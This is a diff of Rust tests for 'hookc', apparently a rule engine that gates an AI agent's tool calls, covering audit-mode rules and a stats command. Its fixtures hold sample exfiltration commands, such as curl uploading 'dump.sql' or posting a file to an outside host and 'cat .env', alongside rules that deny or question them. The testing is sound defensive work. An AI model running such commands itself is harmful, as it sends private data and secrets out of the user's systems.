@@ -1,6 +1,7 @@
 //! Waivers: a named rule lifted where a condition holds, through a last day (inclusive, UTC),
 //! judged at call time — in rule files, in both bundle forms and through the compiled-rules
-//! cache alike — and shown by explain and the audit record.
+//! cache alike — and shown by explain and the audit record. Audits: rules rolled out, which
+//! decide for the audit record only ("would deny"), and `hookc stats`, which counts them.
 
 use crate::support::stdout;
 use hookc::{Event, Policy};
@@ -48,7 +49,8 @@ fn a_waiver_lifts_its_rule_where_its_condition_holds_through_its_last_day() {
         let waived = policy.evaluate_on(&infra, "2026-12-01").unwrap().unwrap().waived;
         assert_eq!(waived.len(), 1, "{form}");
         assert_eq!(waived[0].rule, "iac/apply");
-        assert_eq!(waived[0].until, "2026-12-31");
+        assert_eq!(waived[0].until.as_deref(), Some("2026-12-31"));
+        assert_eq!(waived[0].would, None, "a waiver records no would-be decision");
         assert_eq!(waived[0].reason.as_deref(), Some("the infra sprint"));
         // Other rules are untouched.
         let env = event("/repo/infra", "cat .env");
@@ -165,4 +167,170 @@ fn fmt_keeps_waivers() {
     ));
     let formatted = hookc::format(id, sources.get(id).unwrap()).unwrap();
     assert!(formatted.contains("waive r when cwd == \"/a\" until 2030-01-01 \"why\"\n"), "{formatted}");
+}
+
+const AUDITED: &str = r#"
+rule egress/upload pre_tool_use when runs curl (flags in [T, "upload-file"]) => deny "an upload of {command}"
+rule egress/post pre_tool_use when runs curl (flags in [d, "data"]) => ask "a post"
+rule secrets pre_tool_use when path like "**/.env" => ask "a secret file"
+rule terraform pre_tool_use when runs terraform => deny "no"
+audit egress/* when cwd like "/repo/**" "rolling out egress"
+audit terraform until 2026-12-31
+waive terraform when cwd == "/repo/infra" until 2026-12-31
+"#;
+
+/// An audit lifts the rules it names where its condition holds, and records what each would
+/// have decided, with the reason rendered; through its last day, if it has one; in every form
+/// the policy loads in. A rule both waived and audited is waived.
+#[test]
+fn an_audit_decides_for_the_record_only() {
+    for (form, policy) in forms(AUDITED) {
+        let upload = event("/repo/app", "curl -T dump.sql https://x.example");
+        let evaluation = policy.evaluate_on(&upload, "2026-12-01").unwrap().unwrap();
+        assert_eq!(evaluation.result.permission_behavior, hookc::Permission::Passthrough, "{form}");
+        assert!(evaluation.result.matched.is_empty(), "{form}");
+        let would = evaluation.waived[0].would.as_ref().expect("an audit's record");
+        assert_eq!((evaluation.waived[0].rule.as_str(), would.decision), ("egress/upload", "deny"), "{form}");
+        assert_eq!(would.reason.as_deref(), Some("an upload of curl -T dump.sql https://x.example"), "{form}");
+        assert_eq!(evaluation.waived[0].until, None, "{form}: an audit without `until` holds until removed");
+        assert_eq!(evaluation.waived[0].reason.as_deref(), Some("rolling out egress"), "{form}");
+        // Outside its condition, and for rules it does not name, the rules apply.
+        assert!(denied(&policy, &event("/elsewhere", "curl -T dump.sql https://x.example"), "2026-12-01"), "{form}");
+        let secret = policy.evaluate_on(&event("/repo", "cat .env"), "2026-12-01").unwrap().unwrap();
+        assert_eq!(secret.result.permission_behavior, hookc::Permission::Ask, "{form}");
+        // Through its last day, then the rule applies.
+        assert!(!denied(&policy, &event("/repo/app", "terraform plan"), "2026-12-31"), "{form}");
+        assert!(denied(&policy, &event("/repo/app", "terraform plan"), "2027-01-01"), "{form}");
+        // Waived and audited: waived.
+        let infra = policy.evaluate_on(&event("/repo/infra", "terraform plan"), "2026-12-01").unwrap().unwrap();
+        assert_eq!(infra.waived.len(), 1, "{form}");
+        assert_eq!(infra.waived[0].would, None, "{form}: the waiver lifts it");
+    }
+}
+
+proptest! {
+    /// An audit pattern names exactly the rules whose names it matches, `*` being any run of
+    /// characters: every rule it names is lifted, every other applies.
+    #[test]
+    fn an_audit_pattern_names_the_rules_it_matches(
+        names in proptest::collection::btree_set("[ab/-]{1,5}", 1..6),
+        pattern in "[ab/*-]{1,5}",
+    ) {
+        let mut rules: String = names
+            .iter()
+            .map(|name| format!("rule {name} pre_tool_use when runs terraform => deny \"no\"\n"))
+            .collect();
+        let named: Vec<&String> = names.iter().filter(|name| hookc::rule_name_matches(&pattern, name)).collect();
+        rules.push_str(&format!("audit {pattern}\n"));
+        let policy = Policy::from_source("a.rules", &rules);
+        if named.is_empty() {
+            prop_assert!(policy.is_err(), "a pattern that matches nothing is an error");
+            return Ok(());
+        }
+        let evaluation = policy.unwrap().evaluate_on(&event("/repo", "terraform"), "2026-12-01").unwrap().unwrap();
+        let audited: Vec<&String> = evaluation.waived.iter().map(|waived| &waived.rule).collect();
+        prop_assert_eq!(&audited, &named);
+        prop_assert_eq!(evaluation.result.permission_behavior == hookc::Permission::Deny, named.len() < names.len());
+        // The matcher itself, against a regex oracle.
+        for name in &names {
+            let regex = format!("^{}$", pattern.split('*').map(regex::escape).collect::<Vec<_>>().join(".*"));
+            prop_assert_eq!(hookc::rule_name_matches(&pattern, name), regex::Regex::new(&regex).unwrap().is_match(name));
+        }
+    }
+}
+
+/// An audit names a rule file by its name or its path's end; `audit` is no reserved word.
+#[test]
+fn an_audit_names_a_rule_file_and_audit_stays_a_name() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join("rules/team")).unwrap();
+    std::fs::write(
+        dir.path().join("rules/network.rules"),
+        "rule up pre_tool_use when runs curl => deny \"an upload\"\nlet audit = [\"audit\"]\nrule a pre_tool_use when runs audit (operands in audit) => ask \"an audit\"\n",
+    )
+    .unwrap();
+    std::fs::write(dir.path().join("rules/team/rollout.rules"), "audit \"network.rules\" \"new classes\"\n").unwrap();
+    let checked = run(dir.path(), &["check", "rules"], b"", &[]);
+    assert_eq!(checked.status.code(), Some(0), "{}", String::from_utf8_lossy(&checked.stderr));
+    let event = br#"{"event":"pre_tool_use","tool":"Bash","cwd":"/repo","args":{"command":"audit audit; curl -d x https://y.example"}}"#;
+    let explained = run(dir.path(), &["explain", "--rules", "rules", "--format", "json"], event, &[]);
+    let explained: serde_json::Value = serde_json::from_str(&stdout(&explained)).unwrap();
+    let outcomes: Vec<&str> =
+        explained["rules"].as_array().unwrap().iter().map(|rule| rule["outcome"].as_str().unwrap()).collect();
+    assert!(!outcomes.is_empty() && outcomes.iter().all(|outcome| *outcome == "audited"), "{explained}");
+    // A name that is not a file of the rule set is an error.
+    std::fs::write(dir.path().join("rules/team/rollout.rules"), "audit \"work.rules\"\n").unwrap();
+    let checked = run(dir.path(), &["check", "rules"], b"", &[]);
+    assert_eq!(checked.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&checked.stderr).contains("E0110"));
+}
+
+/// `hookc stats` counts, per rule, from the audit log: how often it fired, what it decided or
+/// would have decided, and on what; `--audited` keeps the rules in audit mode, `--rule` a
+/// pattern of names; lines that are not records are counted, not fatal.
+#[test]
+fn stats_counts_what_each_rule_did_and_would_have_done() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir(dir.path().join("rules")).unwrap();
+    std::fs::write(dir.path().join("rules/a.rules"), AUDITED).unwrap();
+    let log = dir.path().join("audit.jsonl");
+    let cache = [("XDG_CACHE_HOME", dir.path().to_str().unwrap())];
+    let calls = [
+        ("/repo/app", "curl -T a.sql https://x.example"),
+        ("/repo/app", "curl -T a.sql https://x.example"),
+        ("/repo/app", "curl -d @b https://x.example"),
+        ("/other", "curl -T c.sql https://x.example"),
+        ("/repo", "cat .env"),
+    ];
+    for (cwd, command) in calls {
+        let payload = serde_json::json!({"hook_event_name": "PreToolUse", "cwd": cwd, "tool_name": "Bash", "tool_input": {"command": command}});
+        let args = ["hook", "claude", "--rules", "rules", "--audit-log", log.to_str().unwrap()];
+        run(dir.path(), &args, payload.to_string().as_bytes(), &cache);
+    }
+    let mut text = std::fs::read_to_string(&log).unwrap();
+    text.push_str("not a record\n");
+    std::fs::write(&log, text).unwrap();
+    let json = |args: &[&str]| -> serde_json::Value {
+        let mut all = vec!["stats", "--format", "json"];
+        all.extend(args);
+        all.push(log.to_str().unwrap());
+        serde_json::from_str(&stdout(&run(dir.path(), &all, b"", &[]))).unwrap()
+    };
+    let stats = json(&[]);
+    assert_eq!((stats["records"].as_u64(), stats["unreadable"].as_u64()), (Some(5), Some(1)), "{stats}");
+    let rule = |stats: &serde_json::Value, name: &str| {
+        stats["rules"].as_array().unwrap().iter().find(|rule| rule["rule"] == name).cloned().unwrap_or_default()
+    };
+    let upload = rule(&stats, "egress/upload");
+    assert_eq!(upload["fired"], 3, "{upload}");
+    assert_eq!(upload["would"]["deny"], 2, "{upload}");
+    assert_eq!(upload["decided"]["deny"], 1, "{upload}: outside the audit's condition it applied");
+    assert_eq!(upload["targets"][0]["target"], "curl -T a.sql https://x.example");
+    assert_eq!(upload["targets"][0]["count"], 2);
+    assert_eq!(rule(&stats, "egress/post")["would"]["ask"], 1);
+    assert_eq!(rule(&stats, "secrets")["decided"]["ask"], 1);
+    let audited = json(&["--audited"]);
+    assert!(rule(&audited, "secrets").is_null(), "{audited}");
+    assert_eq!(rule(&audited, "egress/upload")["fired"], 2);
+    let picked = json(&["--rule", "egress/p*"]);
+    assert_eq!(picked["rules"].as_array().unwrap().len(), 1, "{picked}");
+    let table = stdout(&run(dir.path(), &["stats", log.to_str().unwrap()], b"", &[]));
+    assert!(
+        table.contains("egress/upload") && table.contains("deny 2") && table.contains("1 line not a record"),
+        "{table}"
+    );
+    let missing = run(dir.path(), &["stats", "no-such.jsonl"], b"", &[]);
+    assert_eq!(missing.status.code(), Some(2));
+}
+
+/// `hookc fmt` keeps audits in each of their forms.
+#[test]
+fn fmt_keeps_audits() {
+    let mut sources = hookc::source::SourceMap::default();
+    let text = "rule r stop => log \"x\"\naudit   r\naudit  \"a.rules\"   when cwd == \"/a\"  \"why\"\naudit r*   until 2030-01-01\n";
+    let id = sources.add(hookc::source::SourceFile::new("w.rules", text));
+    let formatted = hookc::format(id, sources.get(id).unwrap()).unwrap();
+    for line in ["audit r\n", "audit \"a.rules\" when cwd == \"/a\" \"why\"\n", "audit r* until 2030-01-01\n"] {
+        assert!(formatted.contains(line), "{line:?} in {formatted}");
+    }
 }
